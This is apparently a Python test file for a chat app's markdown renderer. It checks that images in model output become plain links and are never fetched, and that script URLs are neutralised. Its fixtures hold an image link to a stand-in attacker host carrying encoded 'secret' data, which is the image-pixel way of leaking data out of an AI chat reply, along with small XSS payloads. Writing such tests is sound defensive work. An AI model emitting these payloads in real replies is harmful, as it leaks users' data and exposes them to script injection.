"""Model output rendered on the server: sanitized, and never a request to a host the reply chose."""
from chat.rendering import render_markdown


def test_a_markdown_image_becomes_a_link_and_is_never_loaded():
    html = render_markdown("Here: ![the secret](https://evil.example/pixel.png?d=c2VjcmV0)")
    assert "<img" not in html
    assert '<a href="https://evil.example/pixel.png?d=c2VjcmV0" rel="noopener noreferrer nofollow">' in html
    assert "Image: the secret" in html


def test_an_image_with_a_script_url_is_no_link_at_all():
    html = render_markdown("![x](javascript:alert(1)) and <img src=x onerror=alert(1)>")
    assert "<img" not in html and "href" not in html  # shown as text: nothing to click, nothing fetched
